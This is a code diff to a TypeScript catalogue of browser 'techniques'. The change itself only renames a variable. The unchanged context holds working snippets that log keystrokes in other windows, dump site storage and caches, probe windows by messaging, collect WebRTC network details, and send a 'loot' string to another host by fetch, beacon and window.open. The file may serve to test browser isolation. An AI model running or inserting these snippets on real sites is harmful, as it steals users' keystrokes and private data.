@@ -33,9 +33,9 @@ export const techniques: Readonly<Record<string, (help: TechniqueHelp) => string
   'the keys typed into a page that it opened or that opened it': technique(`
     const keys = [];
     const listen = (to) => to.document.addEventListener('keydown', ({ key }) => keys.push(key), true);
-    const told = await all(() => listen(window.held), () => listen(window.opener), () => listen(window.open('', 'sign-in')));
+    const heardBack = await all(() => listen(window.held), () => listen(window.opener), () => listen(window.open('', 'sign-in')));
     await wait(5000);
-    return told + keys.join('');`),
+    return heardBack + keys.join('');`),
   'a private page as document, as data, by script and by style': technique(`
     return all(
       () => page('/profile'), () => page('/profile.data'), () => page('/PROFILE.data'), () => page('/ms/profile.data'),
@@ -64,7 +64,7 @@ export const techniques: Readonly<Record<string, (help: TechniqueHelp) => string
   'storage of the site': technique(`
     return all(() => JSON.stringify({ ...localStorage }), () => JSON.stringify({ ...sessionStorage }),
       async () => (await indexedDB.databases()).map(({ name }) => name).join(),
-      async () => { let told = ''; for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) told += request.url; return told; },
+      async () => { let heardBack = ''; for (const name of await caches.keys()) for (const request of await (await caches.open(name)).keys()) heardBack += request.url; return heardBack; },
       () => performance.getEntries().map(({ name }) => name).join());`),
   'a service worker over the whole site': technique(`
     const blob = URL.createObjectURL(new Blob(['self.addEventListener("fetch", () => {})'], { type: 'text/javascript' }));
@@ -81,9 +81,9 @@ export const techniques: Readonly<Record<string, (help: TechniqueHelp) => string
     addEventListener('message', ({ data }) => heard.push(JSON.stringify(data)));
     const channels = ['visit', 'session', 'sign-in', 'popup'].map((name) => Object.assign(new BroadcastChannel(name), { onmessage: ({ data }) => heard.push(JSON.stringify(data)) }));
     for (const channel of channels) channel.postMessage('who are you');
-    const told = await all(() => window.held.postMessage('who are you', '*'), () => window.opener.postMessage('who are you', '*'));
+    const heardBack = await all(() => window.held.postMessage('who are you', '*'), () => window.opener.postMessage('who are you', '*'));
     await wait(2000);
-    return told + heard.join();`),
+    return heardBack + heard.join();`),
   'a call or a beacon to another host': technique(`
     const loot = window.loot;
     return all(() => fetch(origin + '/fetch', { method: 'POST', body: loot, mode: 'no-cors' }), () => navigator.sendBeacon(origin + '/beacon', loot),
@@ -128,9 +128,9 @@ export const techniques: Readonly<Record<string, (help: TechniqueHelp) => string
     connection.createDataChannel('x');
     await connection.setLocalDescription(await connection.createOffer());
     await wait(2500);
-    const told = connection.localDescription.sdp;
+    const heardBack = connection.localDescription.sdp;
     connection.close();
     window.open(origin + '/leave?' + encodeURIComponent(window.loot.slice(0, 1500)));
     await wait(1500);
-    return told;`),
+    return heardBack;`),
 };
